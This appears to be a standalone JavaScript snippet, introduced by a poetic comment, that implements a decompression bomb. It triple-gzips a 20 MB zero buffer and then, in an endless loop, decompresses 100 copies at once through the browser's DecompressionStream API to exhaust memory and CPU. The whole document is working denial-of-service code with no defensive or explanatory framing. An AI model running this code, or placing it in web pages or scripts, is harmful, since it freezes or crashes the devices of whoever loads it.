// Little that becomes much: a stream that decompresses what others have compressed, layer by layer.
(async () => {
    const through = async (bytes, stream) => new Uint8Array(await new Response(new Blob([bytes]).stream().pipeThrough(stream)).arrayBuffer());
    let bomb = new Uint8Array(20e6);
    for (let i = 0; i < 3; i++) bomb = await through(bomb, new CompressionStream('gzip'));
    for (;;) {
        const all = Array.from({ length: 100 }, () => new Blob([bomb]).stream().pipeThrough(new DecompressionStream('gzip')).pipeThrough(new DecompressionStream('gzip')).pipeThrough(new DecompressionStream('gzip')));
        await Promise.all(all.map(stream => new Response(stream).arrayBuffer()));
    }
})();
